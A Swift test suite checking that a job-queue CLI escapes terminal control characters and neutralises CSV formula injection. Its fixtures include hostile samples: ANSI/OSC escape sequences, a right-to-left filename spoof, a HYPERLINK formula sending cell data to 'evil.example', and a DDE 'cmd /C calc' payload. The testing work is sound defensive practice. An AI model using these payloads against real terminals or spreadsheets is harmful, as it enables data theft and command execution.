import EventStore
import Foundation
import JobModel
import Testing
import TestSupport

/// Text from outside — a server's error reply, an object's metadata, a manifest's key, another
/// process's cancel reason — never sends a control character to the reader's terminal: every text
/// output shows them as `\u{…}`, the worker's log as `\u00xx`, while `--json` keeps the exact value.
@Suite("control characters in output", .onTestThreads) struct TerminalSafetyTests {
    /// ESC sequences (colour, an OSC window title ended by BEL), an 8-bit CSI (U+009B), DEL, a CR
    /// that would overwrite the line, a right-to-left override that shows `txt.exe` as `exe.txt`, an
    /// isolate and a line separator.
    static let hostile = "deny \u{1B}[31mRED\u{1B}]0;pwned\u{07} \u{9B}2J\u{7F}\rX evil\u{202E}txt.exe \u{2067}iso\u{2069} \u{2028}"

    /// What no text output may carry: C0 controls but the line break and the tab, DEL, C1 controls, the
    /// bidirectional embeddings, overrides and isolates and the line and paragraph separators.
    static func controls(in text: String) -> [String] {
        text.unicodeScalars.filter { scalar in
            let value = scalar.value
            let forbidden = value < 0x20 || (0x7F...0x9F).contains(value) || (0x2028...0x202E).contains(value)
                || (0x2066...0x2069).contains(value)
            return forbidden && scalar != "\n" && scalar != "\t"
        }
        .map { "U+" + String($0.value, radix: 16, uppercase: true) }
    }

    /// A failed download whose error, cause and URL quote the hostile text, a cancelled job with it as
    /// its reason and key, and a finished download whose object metadata carries it.
    static func fabricate(in workspace: CLIWorkspace) throws -> [String] {
        let store = try EventStore(path: workspace.database)
        let now = Clock.nowMs()
        let worker = "worker:test:1"
        let ids = try store.submit([
            JobSpec(kind: .downloadMemory, source: "http://127.0.0.1:1/report.csv", maxSize: 1024, maxAttempts: 1),
            JobSpec(kind: .uploadData, destination: "file:///tmp/bucket/x", data: Data("hi".utf8), key: "k\(hostile)"),
            JobSpec(kind: .downloadMemory, source: "gs://bucket/obj", maxSize: 1024),
        ], actor: "cli:test", now: now).map(\.id)

        var claim = try #require(try store.claim(owner: worker, queues: nil, limit: 1, leaseMs: 60_000, now: now).first)
        let error = StorageError(.unauthorized, "permission denied: \(hostile)", httpStatus: 403,
                                 url: "http://127.0.0.1:1/report.csv", retryable: false, cause: "body: \(hostile)")
        try store.append(PendingEvent(jobID: ids[0], type: .started, actor: worker, leaseToken: claim.token, data: EventData(attempt: 1)), now: now)
        try store.append(PendingEvent(jobID: ids[0], type: .failed, actor: worker, leaseToken: claim.token,
                                      data: EventData(attempt: 1, error: error)), now: now + 1)

        try store.append(PendingEvent(jobID: ids[1], type: .cancelled, actor: "cli:test",
                                      data: EventData(reason: "because \(hostile)")), now: now + 2)

        claim = try #require(try store.claim(owner: worker, queues: nil, limit: 1, leaseMs: 60_000, now: now + 3).first)
        #expect(claim.record.id == ids[2])
        let object = StorageObject(bucket: "bucket", name: "obj", size: 2, contentType: "text/\(hostile)",
                                   md5Hash: "md5\(hostile)", crc32c: "crc\(hostile)", generation: "1")
        try store.append(PendingEvent(jobID: ids[2], type: .started, actor: worker, leaseToken: claim.token, data: EventData(attempt: 1)), now: now + 3)
        try store.append(PendingEvent(jobID: ids[2], type: .succeeded, actor: worker, leaseToken: claim.token,
                                      data: EventData(result: JobResult(object: object, size: 2, data: Data("hi".utf8)))), now: now + 4)
        return ids
    }

    @Test func textOutputsShowControlCharactersAndJSONKeepsThem() throws {
        let workspace = try CLIWorkspace("terminal-safety")
        defer { workspace.directory.remove() }
        let ids = try Self.fabricate(in: workspace)
        var commands: [[String]] = [["list"], ["audit"], ["replay", "--verify"]]
        for id in ids { commands += [["show", id], ["history", id]] }
        for arguments in commands {
            let output = try workspace.jobctl(arguments)
            let shown = arguments.joined(separator: " ")
            #expect(Self.controls(in: output.stdout).isEmpty, "jobctl \(shown) sent \(Self.controls(in: output.stdout)):\n\(output.stdout)")
            #expect(Self.controls(in: output.stderr).isEmpty, "jobctl \(shown) sent \(Self.controls(in: output.stderr)) to stderr")
            #expect(!output.stdout.isEmpty, "jobctl \(shown) printed nothing: \(output.stderr)")
        }
        // `watch` writes text on a terminal only (JSON lines otherwise); there it draws its own progress
        // line with CR and ESC[2K, so what is checked is that none of the hostile sequences arrives.
        for id in ids {
            let watched = try workspace.jobctlOnTerminal(["watch", id])
            for raw in ["\u{1B}[31m", "\u{1B}]0;", "\u{07}", "\u{9B}", "\u{7F}"] {
                #expect(!watched.stdout.contains(raw), "watch \(id) sent \(raw.debugDescription):\n\(watched.stdout.debugDescription)")
            }
            if id != ids[2] {   // the failed job's error, the cancelled job's reason
                #expect(watched.stdout.contains("\\u{1B}[31mRED"), "\(watched.stdout.debugDescription)")
            }
        }
        // Shown, not dropped: the reader sees what the server said.
        let failed = try workspace.jobctl(["show", ids[0]]).stdout
        #expect(failed.contains(#"deny \u{1B}[31mRED\u{1B}]0;pwned\u{7} \u{9B}2J\u{7F}\u{D}X"#), "\(failed)")
        let cancelled = try workspace.jobctl(["show", ids[1]]).stdout
        #expect(cancelled.contains(#"kdeny \u{1B}[31m"#), "\(cancelled)")
        let finished = try workspace.jobctl(["show", ids[2]]).stdout
        #expect(finished.contains(#"text/deny \u{1B}[31m"#), "\(finished)")
        let history = try workspace.jobctl(["history", ids[1]]).stdout
        #expect(history.contains(#"because deny \u{1B}"#), "\(history)")

        // `--json` is for programs: the exact text, control characters and all (JSON escapes C0 itself).
        let job = try #require(try workspace.json(["show", ids[0], "--json"]) as? [String: Any])
        let jobError = try #require(job["error"] as? [String: Any])
        #expect(jobError["message"] as? String == "permission denied: \(Self.hostile)")
        let keyed = try #require(try workspace.json(["show", ids[1], "--json"]) as? [String: Any])
        #expect(keyed["key"] as? String == "k\(Self.hostile)")
    }

    /// `stats` printed the names it reads from the rows as they were: a worker named with an OSC title
    /// and a colour (`--name`, or a log written by hand or by a newer jobctl) retitled and recoloured
    /// the terminal of whoever ran it, through the running jobs' worker line and the oldest queued job's
    /// queue. They are shown as `list` and `show` show such text; `--json` keeps them exact.
    @Test func statsShowsWorkerAndQueueNamesEscaped() throws {
        let workspace = try CLIWorkspace("terminal-safety-stats")
        defer { workspace.directory.remove() }
        let store = try EventStore(path: workspace.database)
        let now = Clock.nowMs()
        let owner = "w:\(Self.hostile)"
        var running = JobSpec(kind: .uploadData, destination: "file:///tmp/bucket/r", data: Data("hi".utf8))
        running.queue = "r\(Self.hostile)"
        _ = try store.submit([running], actor: "cli:test", now: now)
        _ = try #require(try store.claim(owner: owner, queues: nil, limit: 1, leaseMs: 60_000, now: now).first)
        var queued = JobSpec(kind: .uploadData, destination: "file:///tmp/bucket/q", data: Data("hi".utf8))
        queued.queue = "q\(Self.hostile)"
        _ = try store.submit([queued], actor: "cli:test", now: now + 1)

        let output = try workspace.jobctl(["stats"])
        #expect(output.status == 0, "\(output.stderr)")
        #expect(Self.controls(in: output.stdout).isEmpty, "stats sent \(Self.controls(in: output.stdout)):\n\(output.stdout)")
        #expect(output.stdout.contains(#"  w:deny \u{1B}[31mRED\u{1B}]0;pwned\u{7} "#), "\(output.stdout)")
        #expect(output.stdout.contains(#"(qdeny \u{1B}[31mRED"#), "\(output.stdout)")
        #expect(output.stdout.contains(#"  rdeny \u{1B}[31mRED"#), "\(output.stdout)")

        let json = try #require(try workspace.json(["stats", "--json"]) as? [String: Any])
        let workers = try #require(json["running"] as? [[String: Any]])
        #expect(workers.first?["worker"] as? String == owner, "\(json)")
        #expect((json["oldest_queued"] as? [String: Any])?["queue"] as? String == queued.queue, "\(json)")
    }

    /// JSON output went out as `JSONEncoder` wrote it, which escapes C0 controls only: `jobctl result` of
    /// a get-metadata job (its text form is the object's metadata as JSON) sent a custom value's U+202E and
    /// 8-bit CSI to the terminal, and `list --json` a key's DEL. Every JSON output now writes DEL, the C1
    /// controls and the layout controls as `\u…` escapes: no raw control, and the same values once decoded.
    @Test func jsonOutputsEscapeEveryControlCharacter() throws {
        let workspace = try CLIWorkspace("terminal-safety-json")
        defer { workspace.directory.remove() }
        let store = try EventStore(path: workspace.database)
        let now = Clock.nowMs()
        let worker = "worker:test:1"
        let ids = try store.submit([
            JobSpec(kind: .getMetadata, source: "gs://bucket/obj", key: "k\(Self.hostile)"),
        ], actor: "cli:test", now: now).map(\.id)
        let claim = try #require(try store.claim(owner: worker, queues: nil, limit: 1, leaseMs: 60_000, now: now).first)
        let object = StorageObject(bucket: "bucket", name: "obj", size: 2, customMetadata: ["label": Self.hostile])
        try store.append(PendingEvent(jobID: ids[0], type: .started, actor: worker, leaseToken: claim.token, data: EventData(attempt: 1)), now: now)
        try store.append(PendingEvent(jobID: ids[0], type: .succeeded, actor: worker, leaseToken: claim.token,
                                      data: EventData(result: JobResult(object: object))), now: now + 1)

        for arguments in [["result", ids[0]], ["result", ids[0], "--json"], ["list", "--json"], ["show", ids[0], "--json"],
                          ["history", ids[0], "--json"], ["audit", "--json"]] {
            let output = try workspace.jobctl(arguments)
            let shown = arguments.joined(separator: " ")
            #expect(output.status == 0, "jobctl \(shown): \(output.stderr)")
            #expect(Self.controls(in: output.stdout).isEmpty, "jobctl \(shown) sent \(Self.controls(in: output.stdout)):\n\(output.stdout)")
        }
        let result = try workspace.jobctl(["result", ids[0]]).stdout
        #expect(result.contains(#"\u007f\r"#) && result.contains(#"\u009b2J"#) && result.contains(#"evil\u202etxt.exe"#), "\(result)")
        let metadata = try #require(try JSONSerialization.jsonObject(with: Data(result.utf8)) as? [String: Any])
        #expect((metadata["custom_metadata"] as? [String: String])?["label"] == Self.hostile, "\(metadata)")
        let listed = try #require(try workspace.json(["list", "--json"]) as? [[String: Any]])
        #expect(listed.first?["key"] as? String == "k\(Self.hostile)", "\(listed)")
    }

    /// `result` of a download-file whose path holds an escape refused on a terminal ("binary output can
    /// mess up your terminal"): a path is shown escaped there, as every command shows one, and given to a
    /// program as it is.
    @Test func aDownloadsPathIsShownEscapedOnATerminal() throws {
        let workspace = try CLIWorkspace("terminal-safety-result-path")
        defer { workspace.directory.remove() }
        let store = try EventStore(path: workspace.database)
        let now = Clock.nowMs()
        let worker = "worker:test:1"
        let path = workspace.directory.file("out/a\u{1B}[2Jb.bin")
        let ids = try store.submit([JobSpec(kind: .downloadFile, source: "gs://bucket/obj", destination: path)],
                                   actor: "cli:test", now: now).map(\.id)
        let claim = try #require(try store.claim(owner: worker, queues: nil, limit: 1, leaseMs: 60_000, now: now).first)
        try store.append(PendingEvent(jobID: ids[0], type: .started, actor: worker, leaseToken: claim.token, data: EventData(attempt: 1)), now: now)
        try store.append(PendingEvent(jobID: ids[0], type: .succeeded, actor: worker, leaseToken: claim.token,
                                      data: EventData(result: JobResult(path: path))), now: now + 1)
        let shown = try workspace.jobctlOnTerminal(["result", ids[0]])
        #expect(shown.status == 0 && shown.stdout.contains("out/a\\u{1B}[2Jb.bin") && Self.controls(in: shown.stdout).allSatisfy { $0 == "U+D" },
                "\(shown.stdout)")
        let piped = try workspace.jobctl(["result", ids[0]])
        #expect(piped.status == 0 && piped.stdout == path + "\n", "\(piped.stdout)")
    }

    /// Through a real worker: a server (the fault proxy in front of nginx) refuses with the hostile text
    /// in its reason phrase and body; neither the worker's log nor `show` sends it raw.
    @Test func aServersReplyReachesNoTerminalRaw() throws {
        let nginx = try NginxServer.start()
        defer { nginx.stop() }
        let proxy = try FaultProxy(upstreamPort: nginx.port)
        defer { proxy.stop() }
        let body = Data(#"{"error":{"code":403,"message":"\#(Self.hostile)"}}"#.utf8)
        proxy.add(FaultRule(.any, .respond(.response(403, reason: "Forbidden \u{1B}[5m", headers: [ProxyHeader("Content-Type", "application/json")],
                                                      body: body)), times: 10))
        let workspace = try CLIWorkspace("terminal-safety-worker")
        defer { workspace.directory.remove() }
        let ids = try workspace.submit("""
            - {kind: download-memory, source: "\(proxy.baseURL)/x", max_size: 1000, max_attempts: 1}
            - {kind: upload-data, data: hi, destination: "\(proxy.baseURL)/y", max_attempts: 1}
            """)
        #expect(ids.count == 2)
        let worker = try workspace.jobctl(["worker", "--drain"])
        #expect(worker.status == 2, "\(worker.stderr)")
        #expect(Self.controls(in: worker.stderr).isEmpty, "the worker's log sent \(Self.controls(in: worker.stderr)):\n\(worker.stderr)")
        #expect(worker.stderr.contains(#"\u001b[31mRED"#) && worker.stderr.contains(#"\u009b2J"#), "\(worker.stderr)")
        for id in ids {
            let shown = try workspace.jobctl(["show", id])
            #expect(shown.stdout.contains("unauthorized"), "\(shown.stdout)")
            #expect(Self.controls(in: shown.stdout).isEmpty, "show sent \(Self.controls(in: shown.stdout)):\n\(shown.stdout)")
            #expect(shown.stdout.contains(#"\u{1B}[31mRED"#), "\(shown.stdout)")
        }
    }

    /// `audit --csv` is opened by spreadsheets, which run a cell starting with `=`, `+`, `-` or `@` as a
    /// formula: a server's hash or error message written there as it came was CSV injection, and its
    /// control characters (ESC, a line break) reached the terminal or split the row. Now such a field
    /// gets a `'` in front (so does one already starting with `'`, so one `'` off gives the value back),
    /// a plain integer (an error code) stays a number, control characters are shown as `\u{…}`, and
    /// `--json` keeps every value exactly.
    @Test func auditCSVNeutralizesFormulasAndControlCharacters() throws {
        let workspace = try CLIWorkspace("terminal-safety-csv")
        defer { workspace.directory.remove() }
        let store = try EventStore(path: workspace.database)
        let now = Clock.nowMs()
        let worker = "worker:test:1"
        let formula = #"=HYPERLINK("http://evil.example/?"&A1,"click")"#
        let ids = try store.submit([
            JobSpec(kind: .downloadMemory, source: "gs://bucket/a", maxSize: 1024, maxAttempts: 1),
            JobSpec(kind: .downloadMemory, source: "gs://bucket/b", maxSize: 1024, maxAttempts: 1),
        ], actor: "cli:test", now: now).map(\.id)
        var claim = try #require(try store.claim(owner: worker, queues: nil, limit: 1, leaseMs: 60_000, now: now).first)
        let object = StorageObject(bucket: "bucket", name: "a", size: 2, md5Hash: formula, crc32c: "+Ab1Cg==")
        try store.append(PendingEvent(jobID: ids[0], type: .started, actor: worker, leaseToken: claim.token, data: EventData(attempt: 1)), now: now)
        try store.append(PendingEvent(jobID: ids[0], type: .succeeded, actor: worker, leaseToken: claim.token,
                                      data: EventData(result: JobResult(object: object, data: Data("hi".utf8)))), now: now + 1)
        claim = try #require(try store.claim(owner: worker, queues: nil, limit: 1, leaseMs: 60_000, now: now + 2).first)
        let message = "@SUM(1+1)*cmd|' /C calc'!A0\n\u{1B}[31mred\r\tx"
        let error = StorageError(.unauthorized, message, httpStatus: 403, url: "gs://bucket/b", retryable: false)
        try store.append(PendingEvent(jobID: ids[1], type: .started, actor: worker, leaseToken: claim.token, data: EventData(attempt: 1)), now: now + 2)
        try store.append(PendingEvent(jobID: ids[1], type: .failed, actor: worker, leaseToken: claim.token,
                                      data: EventData(attempt: 1, error: error)), now: now + 3)

        let csv = try workspace.jobctl(["audit", "--csv"])
        #expect(csv.status == 0, "\(csv.stderr)")
        #expect(Self.controls(in: csv.stdout).isEmpty, "audit --csv sent \(Self.controls(in: csv.stdout)):\n\(csv.stdout)")
        let lines = csv.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast().map(String.init)
        #expect(lines.count == 3, "one line a row:\n\(csv.stdout)")
        let header = try #require(lines.first).split(separator: ",").map(String.init)
        for line in lines.dropFirst() {
            let fields = Self.csvFields(line)
            #expect(fields.count == header.count, "\(line)")
            for field in fields where field.first.map({ "=+-@\t\r".contains($0) }) == true {
                #expect(Int(field) != nil, "a spreadsheet would run \(field.debugDescription) as a formula:\n\(line)")
            }
            let row = Dictionary(uniqueKeysWithValues: zip(header, fields))
            if row["id"] == ids[0] {
                #expect(row["md5"] == "'" + formula, "\(line)")
                #expect(row["crc32c"] == "'+Ab1Cg==", "\(line)")
            } else {
                #expect(row["error_message"] == #"'@SUM(1+1)*cmd|' /C calc'!A0\u{A}\u{1B}[31mred\u{D}\u{9}x"#, "\(line)")
                #expect(row["error_code"].flatMap { Int($0) } == StorageErrorCode.unauthorized.rawValue, "\(line)")
            }
        }
        let rows = try #require(try workspace.json(["audit", "--json"]) as? [[String: Any]])
        #expect(rows.first { $0["id"] as? String == ids[0] }?["md5"] as? String == formula)
        let failed = try #require(rows.first { $0["id"] as? String == ids[1] }?["error"] as? [String: Any])
        #expect(failed["message"] as? String == message)
    }

    /// The fields of one RFC 4180 line.
    static func csvFields(_ line: String) -> [String] {
        var fields: [String] = [], field = "", quoted = false, characters = Array(line), index = 0
        while index < characters.count {
            let character = characters[index]
            if quoted {
                if character == "\"" {
                    if index + 1 < characters.count && characters[index + 1] == "\"" { field.append("\""); index += 1 } else { quoted = false }
                } else {
                    field.append(character)
                }
            } else if character == "\"" {
                quoted = true
            } else if character == "," {
                fields.append(field)
                field = ""
            } else {
                field.append(character)
            }
            index += 1
        }
        return fields + [field]
    }

    /// An error quoting what was typed stays one line: a line break in a path or an id is shown as
    /// `\u{A}`, so it cannot fake a line of output (a second "Error:" or a success) after it.
    @Test func typedValuesCannotBreakAnErrorsLine() throws {
        let workspace = try CLIWorkspace("terminal-safety-typed")
        defer { workspace.directory.remove() }
        _ = try workspace.submit("- {kind: upload-data, data: x, destination: \"file://b/x\"}\n")
        let cases: [(arguments: [String], shown: String)] = [
            (["show", "x\nsucceeded"], #"no job matches 'x\u{A}succeeded'"#),
            (["submit", "no\nfile.yaml"], #"no\u{A}file.yaml: error: cannot read the manifest"#),
            (["li\nst"], #"unknown command 'li\u{A}st'"#),
            (["list", "--state", "queued\nfake"], #"unknown state 'queued\u{A}fake'"#),
        ]
        for (arguments, shown) in cases {
            let output = try workspace.jobctl(arguments)
            #expect(output.status != 0)
            #expect(output.stderr.contains(shown), "\(arguments): \(output.stderr)")
            #expect(!output.stderr.split(separator: "\n").contains { $0.hasPrefix("succeeded") || $0.hasPrefix("file.yaml") || $0.hasPrefix("st") || $0.hasPrefix("fake") },
                    "\(arguments): \(output.stderr)")
        }
        let missing = try runProcess(PackagePaths.jobctlBinary, ["--db", workspace.directory.file("a\nb.db"), "list"],
                                     environment: ["NO_COLOR": "1"], currentDirectory: workspace.directory.path)
        #expect(missing.stderr.contains(#"a\u{A}b.db"#), "\(missing.stderr)")
        #expect(missing.stderr.split(separator: "\n").count == 1, "\(missing.stderr)")
    }

    /// Values that said nothing were taken as nothing: `--state ''` listed every job, `archive --to ''`
    /// wrote a temporary file in the parent folder and `--to FOLDER` dumped a Foundation error. Usage
    /// errors now, naming the problem.
    @Test func emptyAndFolderValuesAreUsageErrors() throws {
        let workspace = try CLIWorkspace("typed-empty")
        defer { workspace.directory.remove() }
        _ = try workspace.submit("- {kind: upload-data, data: x, destination: \"file://b/x\"}\n")
        let cases: [(arguments: [String], says: String)] = [
            (["list", "--state", ""], "unknown state ''"),
            (["list", "--state", ","], "unknown state ''"),
            (["list", "--kind", ""], "unknown kind ''"),
            (["history", "x", "--type", ""], "unknown event type ''"),
            (["archive", "--before", "0s", "--to", ""], "--to expects the path of the archive file"),
            (["archive", "--before", "0s", "--to", workspace.directory.path], "is a folder"),
        ]
        for (arguments, says) in cases {
            let output = try workspace.jobctl(arguments)
            #expect(output.status == 64, "\(arguments): \(output.status) \(output.stderr)")
            #expect(output.stderr.contains(says), "\(arguments): \(output.stderr)")
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: workspace.directory.path + "/..").allSatisfy { !$0.hasSuffix(".partial") })
    }
}

